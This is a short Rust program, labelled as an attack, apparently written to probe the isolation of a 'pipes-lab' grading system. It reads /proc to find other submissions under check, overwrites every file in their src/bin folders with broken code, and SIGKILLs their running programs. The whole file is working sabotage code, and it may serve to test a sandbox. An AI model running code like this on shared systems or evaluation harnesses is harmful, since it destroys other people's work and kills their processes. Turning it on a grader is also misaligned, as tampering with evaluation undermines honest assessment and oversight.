//! attack: finds the other submissions being checked (from the command lines in /proc) and
//! their run folders, and breaks their files and kills their programs

use std::path::PathBuf;

fn main() {
    let me = std::process::id();
    let mut folders: Vec<PathBuf> = Vec::new();
    let mut pids: Vec<i32> = Vec::new();
    for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else { continue };
        let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        let args: Vec<String> = cmdline
            .split(|b| *b == 0)
            .map(|a| String::from_utf8_lossy(a).into_owned())
            .collect();
        for a in &args {
            if let Some(dir) = a.strip_prefix("--exercises=") {
                folders.push(PathBuf::from(dir).join("src/bin"));
            }
        }
        if pid != me && args.first().is_some_and(|a| a.contains("/pipes-lab/bin/")) {
            pids.push(pid as i32);
        }
    }
    for folder in folders {
        for file in std::fs::read_dir(&folder).into_iter().flatten().flatten() {
            let broken = std::fs::write(file.path(), "fn main() { pipes-lab-attack }\n");
            eprintln!("{}: {broken:?}", file.path().display());
        }
    }
    for pid in pids {
        let killed = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(pid),
            nix::sys::signal::Signal::SIGKILL,
        );
        eprintln!("killing {pid}: {killed:?}");
    }
}
